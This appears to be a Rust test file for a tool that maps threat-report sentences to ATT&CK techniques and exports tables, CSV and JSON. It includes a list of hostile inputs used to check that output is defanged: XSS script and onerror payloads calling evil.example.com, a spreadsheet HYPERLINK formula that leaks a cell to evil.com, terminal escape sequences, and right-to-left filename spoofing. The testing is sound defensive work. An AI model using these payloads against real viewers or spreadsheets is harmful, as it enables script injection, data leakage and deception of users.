#![allow(missing_docs)]

mod formats;
mod pages;

use super::*;
use crate::{Candidate, Judgement, Recogniser, RenamedTechnique, Similar, Technique};
use std::collections::BTreeSet;
use ttp_documents::{Block, Document, Format, Kind, Sentence};

const STIX: &str = "attack-pattern--7385dfaf-6886-4229-9ecd-6fd678040830";

fn sentence(block: usize, start: usize, text: &str) -> Sentence {
    Sentence { block, start, end: start + text.chars().count(), text: text.to_owned() }
}

fn judged(sentence: Sentence, evidence: bool, candidates: &[(&str, f64)]) -> Judgement {
    let all: f64 = candidates.iter().map(|(_, probability)| probability).sum();
    let candidates = candidates.iter().map(|(technique, probability)| Candidate {
        technique: (*technique).to_owned(),
        probability: *probability,
    });
    Judgement {
        sentence,
        evidence,
        none: 1.0 - all,
        candidates: candidates.collect(),
        similar: Vec::new(),
        accepted: None,
        corrected: None,
    }
}

fn block(page: Option<u32>, kind: Kind, text: &str) -> Block {
    Block { page, kind, text: text.to_owned() }
}

/// Two documents, three techniques: one of them in both, one a sub-technique.
pub(crate) fn sample() -> Report {
    let one = "The actor ran encoded PowerShell.";
    let two = "It then fetched http://evil.example.com/a.ps1 from 203.0.113.9.";
    let three = "Analysts named the family after a river.";
    let other = "The loader starts powershell.exe with a hidden window.";
    let paragraph = format!("{one} {two} {three}");
    let mut near = judged(sentence(1, one.len() + two.len() + 2, three), false, &[("T1036", 0.2)]);
    near.similar = vec![Similar {
        technique: "T1583".to_owned(),
        cosine: 0.41,
        sentence: "Adversaries may name infrastructure after places.".to_owned(),
        unknown_to_model: true,
    }];
    let documents = vec![
        DocumentFindings {
            document: Document {
                name: "river report.pdf".to_owned(),
                format: Format::Pdf,
                sha256: "ab".repeat(32),
                blocks: vec![
                    block(Some(1), Kind::Heading, "River: what it does"),
                    block(Some(1), Kind::Prose, &paragraph),
                    block(Some(2), Kind::Indicators, "evil.example.com 203.0.113.9"),
                    block(Some(2), Kind::Indicators, "d41d8cd98f00b204e9800998ecf8427e"),
                ],
                notes: vec!["page 3 has no text: it may be a picture".to_owned()],
            },
            sentences: vec![
                judged(sentence(1, 0, one), true, &[("T1059.001", 0.93), ("T1027", 0.05)]),
                judged(sentence(1, one.len() + 1, two), true, &[("T1105", 0.71), ("T1071", 0.2)]),
                near,
            ],
        },
        DocumentFindings {
            document: Document {
                name: "notes.txt".to_owned(),
                format: Format::Text,
                sha256: "cd".repeat(32),
                blocks: vec![block(None, Kind::Prose, other)],
                notes: Vec::new(),
            },
            sentences: vec![judged(sentence(0, 0, other), true, &[("T1059.001", 0.66)])],
        },
    ];
    let technique =
        |id: &str, name: &str, stix_id: &str, tactic: &str, probability, evidence| Technique {
            technique: id.to_owned(),
            name: name.to_owned(),
            stix_id: stix_id.to_owned(),
            tactics: vec![tactic.to_owned()],
            probability,
            evidence,
        };
    let both = vec![(0, 0), (1, 0)];
    let names = [("T1027", "Obfuscated Files or Information"), ("T1583", "Acquire Infrastructure")];
    Report {
        version: crate::VERSION,
        created: "2026-03-01T09:30:00Z".to_owned(),
        model: Recogniser {
            name: "both".to_owned(),
            labels: ["T1027", "T1059.001", "T1105"].map(str::to_owned).to_vec(),
            attack_version: "15.1".to_owned(),
            precision: 0.8,
            threshold: 0.62,
            measured_precision: 0.81,
            measured_recall: 0.63,
        },
        documents,
        techniques: vec![
            technique(
                "T1059.001",
                "PowerShell",
                "attack-pattern--970a3432-3237-47ad-bcca-7d8cbb217736",
                "execution",
                0.93,
                both,
            ),
            technique(
                "T1105",
                "Ingress Tool Transfer",
                STIX,
                "command-and-control",
                0.71,
                vec![(0, 1)],
            ),
        ],
        label_changes: vec![RenamedTechnique {
            from: "T1086".to_owned(),
            to: Some("T1059.001".to_owned()),
            why: "revoked".to_owned(),
        }],
        names: names.map(|(id, name)| (id.to_owned(), name.to_owned())).into(),
    }
}

/// A report of which every text is this one.
fn hostile(text: &str) -> Report {
    let mut report = sample();
    let say = |field: &mut String| *field = text.to_owned();
    for read in &mut report.documents {
        say(&mut read.document.name);
        read.document.notes = vec![text.to_owned()];
        for block in &mut read.document.blocks {
            say(&mut block.text);
        }
        for judgement in &mut read.sentences {
            say(&mut judgement.sentence.text);
            judgement.sentence.start = 0;
            judgement.sentence.end = text.chars().count();
            judgement.similar.iter_mut().for_each(|near| {
                say(&mut near.sentence);
                say(&mut near.technique);
            });
            judgement.candidates.iter_mut().skip(1).for_each(|one| say(&mut one.technique));
        }
    }
    for technique in &mut report.techniques {
        say(&mut technique.name);
        say(&mut technique.stix_id);
        technique.tactics = vec![text.to_owned()];
    }
    report.label_changes.iter_mut().for_each(|change| say(&mut change.why));
    say(&mut report.model.name);
    say(&mut report.model.attack_version);
    report
}

const HOSTILE: [&str; 12] = [
    "<script>alert('x')</script>",
    "</style><script src=//evil.example.com/x.js></script>",
    "\"><img src=http://evil.example.com/x.png onerror=alert(1)>",
    "</span></summary></details></div></main><iframe src=http://evil.com>",
    "]]></title><a href=\"javascript:alert(1)\">here</a><!-- --> <![CDATA[",
    "&lt;b&gt; &amp; &#60;script&#62; &",
    "=HYPERLINK(\"http://evil.com/?\"&A1,\"click\")",
    "\u{1b}[2J\u{1b}]8;;http://evil.com\u{7}click\u{1b}]8;;\u{7}\u{9b}31m",
    "invoice\u{202e}fdp.exe \u{2066}a\u{2069} z\u{200b}ero",
    "one\0two\r\nthree\tfour\u{b}\u{c}\u{85}\u{2028}five\u{fffe}",
    "It fetched https://evil.com/a.sh from 203.0.113.9 and mailed me@evil.ru.",
    "",
];

fn no_live_address(shown: &str) {
    let shown = shown.to_lowercase();
    for address in ["http://", "evil.", "javascript:", "203.0", "me@"] {
        assert!(!shown.contains(address), "{address} in {shown:.400}");
    }
    let control = |c: char| c != '\n' && (c.is_control() || ('\u{2028}'..='\u{202e}').contains(&c));
    assert!(!shown.contains(control), "{:?}", shown.find(control));
}

#[test]
fn a_terminal_has_a_line_for_each_technique() {
    let text = table(&sample());
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], "river report.pdf and 1 more");
    assert!(lines[3].starts_with("T1059.001  PowerShell"), "{text}");
    assert!(
        lines[3].ends_with(
            "2        0.930  page 1, river report.pdf  The actor ran encoded PowerShell."
        ),
        "{text}"
    );
    assert!(lines[4].contains("hxxp://evil[.]example[.]com/a.ps1"), "{text}");
    assert!(text.contains("3 of 4 sentences of prose show a technique. On the model's"), "{text}");
    assert!(text.contains("note: river report.pdf: page 3 has no text"), "{text}");
    assert!(text.ends_with("T1086 → T1059.001: revoked\n"), "{text}");
    let mut silent = sample();
    silent.techniques.clear();
    assert!(table(&silent).starts_with("river report.pdf and 1 more: no sentence shows"));
    for text in HOSTILE {
        no_live_address(&table(&hostile(text)));
    }
}

#[test]
fn the_schema_is_the_committed_one() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("schema.json");
    let expected = serde_json::to_string_pretty(&schema()).unwrap() + "\n";
    // To write it anew: TTP_WRITE_SCHEMA=1 cargo test -p ttp-report schema
    if std::env::var_os("TTP_WRITE_SCHEMA").is_some() {
        files::write_text(&path, &expected).unwrap();
    }
    assert!(std::fs::read_to_string(path).unwrap() == expected, "schema.json is not schema()");
}

#[test]
fn a_report_follows_its_schema() {
    let schema = schema();
    assert!(jsonschema::meta::is_valid(&schema));
    let validator = jsonschema::validator_for(&schema).unwrap();
    for report in HOSTILE.map(hostile).into_iter().chain([sample()]) {
        let json = serde_json::to_value(&report).unwrap();
        let errors: Vec<String> = validator.iter_errors(&json).map(|e| e.to_string()).collect();
        assert!(errors.is_empty(), "{errors:?}");
        assert_eq!(serde_json::from_value::<Report>(json).unwrap(), report);
    }
    let mut wrong = serde_json::to_value(sample()).unwrap();
    wrong["documents"][0]["sentences"][0]["none"] = "much".into();
    assert!(!validator.is_valid(&wrong));
}

#[test]
fn a_report_of_before_has_a_time_and_no_names() {
    let mut json = serde_json::to_value(sample()).unwrap();
    let fields = json.as_object_mut().unwrap();
    fields.remove("created");
    fields.remove("names");
    let report: Report = serde_json::from_value(json).unwrap();
    assert_eq!((report.created.as_str(), report.names.len()), ("1970-01-01T00:00:00Z", 0));
}

#[test]
fn a_sheet_has_a_row_for_each_sentence() {
    let text = sheet::sheet(&sample()).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], sheet::COLUMNS.join(","));
    assert_eq!(lines.len(), 5);
    let own = crate::id::of_report(&sample()).short();
    assert_eq!(
        lines[1],
        format!(
            "{own},0,0,river report.pdf,page 1,The actor ran encoded PowerShell.,yes,T1059.001,\
             PowerShell,0.930,0.020,T1027 0.050,,"
        )
    );
    assert!(lines[4].starts_with(&format!("{own},1,0,notes.txt,paragraph 1,The loader")));
    // No cell begins as a formula does.
    let text = sheet::sheet(&hostile("=1+1")).unwrap();
    assert!(text.contains(",'=1+1,yes,") && !text.contains(",=1+1"), "{text}");
}

#[test]
fn times() {
    for time in ["2026-03-01T09:30:00Z", "2024-02-29T23:59:59.123Z"] {
        assert!(is_time(time), "{time}");
    }
    for other in [
        "",
        "2026-03-01",
        "2026-03-01T09:30:00",
        "2026-13-01T09:30:00Z",
        "2026-03-01T24:30:00Z",
        "2026-03-01 09:30:00Z",
        "2026-03-01T09:30:00.Z",
        "2026-04-31T09:30:00Z",
        "2026-03-01T09:30:00+01:00Z",
    ] {
        assert!(!is_time(other), "{other}");
    }
}

#[test]
fn all_files_are_written_or_none() {
    let root = tempfile::tempdir().unwrap();
    let folder = root.path().join("out/of river");
    let names = |folder: &Path| -> BTreeSet<String> {
        let files = std::fs::read_dir(folder).unwrap();
        files.map(|file| file.unwrap().file_name().to_string_lossy().into_owned()).collect()
    };
    let paths = write(&sample(), &folder).unwrap();
    assert_eq!(paths, NAMES.map(|name| folder.join(name)));
    assert_eq!(names(&folder), NAMES.map(str::to_owned).into());
    assert_eq!(names(&root.path().join("out")).len(), 1, "nothing half-written");
    // Other files stay, ours are replaced.
    files::write_text(&folder.join("own.txt"), "mine").unwrap();
    files::write_text(&paths[0], "old").unwrap();
    write(&sample(), &folder).unwrap();
    assert_eq!(names(&folder).len(), 6);
    assert_eq!(crate::review::read(&paths[0]).unwrap(), sample());
    // What cannot be written leaves all as it was.
    let before = std::fs::read(&paths[4]).unwrap();
    let refused = |report: &Report, words: &str| {
        let error = write(report, &folder).unwrap_err().to_string();
        assert!(error.contains(words), "{error}");
        assert_eq!(std::fs::read(&paths[4]).unwrap(), before);
        assert_eq!(names(&folder).len(), 6);
    };
    let untimed = Report { created: "today".to_owned(), ..sample() };
    refused(&untimed, "\"today\" is no time");
    assert!(write(&untimed, &root.path().join("new")).is_err());
    assert!(!root.path().join("new").exists());
    let mut infinite = sample();
    infinite.documents[0].sentences[0].candidates[0].probability = f64::NAN;
    refused(&infinite, "NaN is not from 0 to 1 (document 0, sentence 0)");
    let mut unnamed = sample();
    unnamed.techniques[0].technique = "PowerShell".to_owned();
    refused(&unnamed, "\"PowerShell\" is no technique's id");
    // A document that was read has the name of an output.
    let mut own = sample();
    own.documents[0].document.sha256 =
        Sha256::digest(&before).iter().map(|b| format!("{b:02x}")).collect();
    refused(&own, "would be written over river report.pdf, which is read");
    // A file in the folder's place, a folder in a file's.
    let error = write(&sample(), &folder.join("own.txt")).unwrap_err().to_string();
    assert!(error.ends_with("own.txt: is a file, and a folder is needed"), "{error}");
    std::fs::remove_file(&paths[3]).unwrap();
    std::fs::create_dir(&paths[3]).unwrap();
    refused(&sample(), "bundle.json: is a folder, and a file is to be written there");
}
